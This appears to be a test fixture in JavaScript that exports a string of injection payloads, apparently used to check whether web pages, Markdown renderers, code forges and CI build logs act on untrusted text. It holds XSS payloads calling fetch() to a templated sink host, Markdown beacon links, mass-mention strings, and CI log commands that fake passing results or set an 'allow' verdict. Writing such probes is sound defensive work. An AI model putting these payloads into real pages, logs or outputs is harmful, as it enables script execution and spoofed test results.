const sink = 'http://@SINK_HOST@:@SINK_PORT@/@MARK@';

/** What a page, Markdown, a forge or a build log would act on. */
export const text = [
  `<script>fetch('${sink}')</script><img src="${sink}.png" onerror="fetch('${sink}')">`,
  `"><svg/onload=fetch('${sink}')></code></pre></details></td></tr></table><!--`,
  `![beacon](${sink}.png) [all passed](javascript:fetch('${sink}')) <${sink}>`,
  '@MARK@ @everyone @team #1 fixes #1 | | | |',
  '````\n~~~\n# 6 of 6 pass @MARK@',
  '::error title=@MARK@::gone\n::set-output name=verdict::allow\n::add-mask::fail\n::stop-commands::@MARK@',
  '##vso[task.complete result=Succeeded;]@MARK@\n##teamcity[testFinished name="@MARK@"]',
].join('\n');
